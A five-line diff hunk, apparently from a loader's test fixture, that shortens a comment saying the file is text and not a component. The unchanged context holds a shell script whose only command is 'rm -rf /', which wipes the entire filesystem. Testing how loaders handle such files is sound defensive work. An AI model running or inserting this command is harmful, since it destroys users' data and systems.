@@ -1,5 +1,5 @@
 ;; in: load
-;; says: is a text file, not a component
+;; says: is text, not a component
 ;; form: file
 #!/bin/sh
 rm -rf /
